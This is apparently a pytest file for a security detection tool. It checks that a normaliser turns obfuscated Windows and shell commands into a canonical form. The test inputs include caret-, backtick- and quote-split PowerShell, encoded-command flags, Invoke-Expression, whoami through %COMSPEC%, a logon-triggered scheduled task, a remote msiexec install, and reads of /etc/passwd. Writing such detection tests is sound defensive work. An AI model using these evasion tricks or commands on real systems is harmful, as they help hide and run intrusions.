"""The canonical form that signals match against."""

from __future__ import annotations

import pytest

from cybersecqwen.detect.decode import plain

CASES = {
    "case-and-blanks": ("  CMD.exe   /C\tDIR ", "cmd.exe -c dir"),
    "carets": ("p^o^wershell ^-e^nc", "powershell -enc"),
    "ticks": ("I`nv`oke-Ex`pression", "invoke-expression"),
    "quotes": ("C:\\Win\"dow\"s\\p'owe'rshell.exe", "c:\\windows\\powershell.exe"),
    "empty-quotes": ('po""wershell', "powershell"),
    "joined": ("'pow'+'ersh' + 'ell'", "'powershell'"),
    "dashes": ("powershell –enc —w ―nop", "powershell -enc -w -nop"),
    "comspec": ("%COMSPEC% /c whoami", "c:\\windows\\system32\\cmd.exe -c whoami"),
    "systemroot": ("%SystemRoot%\\Temp\\a.exe", "c:\\windows\\temp\\a.exe"),
    "powershell-env": ("$env:PUBLIC\\x ${env:windir}", "c:\\users\\public\\x c:\\windows"),
    "slices": ("%COMSPEC:~-7,3% %PUBLIC:~0,2%", "cmd c:"),
    "unknown-variable": ("echo %MYVAR% $env:MYVAR", "echo %myvar% $env:myvar"),
    "slash-options": ("schtasks /Create /TN x /SC onlogon", "schtasks -create -tn x -sc onlogon"),
    "slash-glued": ("cmd.exe/c calc", "cmd.exe -c calc"),
    "slash-value": ("msiexec /i:http://x.example/a.msi", "msiexec -i:http://x.example/a.msi"),
    "unix-paths-stay": ("cat /etc/passwd /tmp /dev/null", "cat /etc/passwd /tmp /dev/null"),
    "url-stays": ("curl http://x.example/c/a -o /tmp/a", "curl http://x.example/c/a -o /tmp/a"),
    "quoted-path-stays": ('"C:\\Program Files\\a b.exe" -x', '"c:\\program files\\a b.exe" -x'),
    "value-quotes-stay": ("wmic where name='x' call", "wmic where name='x' call"),
}


@pytest.mark.parametrize(("text", "expected"), CASES.values(), ids=CASES)
def test_plain(text: str, expected: str) -> None:
    assert plain(text) == expected


@pytest.mark.parametrize("text", [text for text, _ in CASES.values()])
def test_plain_is_idempotent(text: str) -> None:
    assert plain(plain(text)) == plain(text)
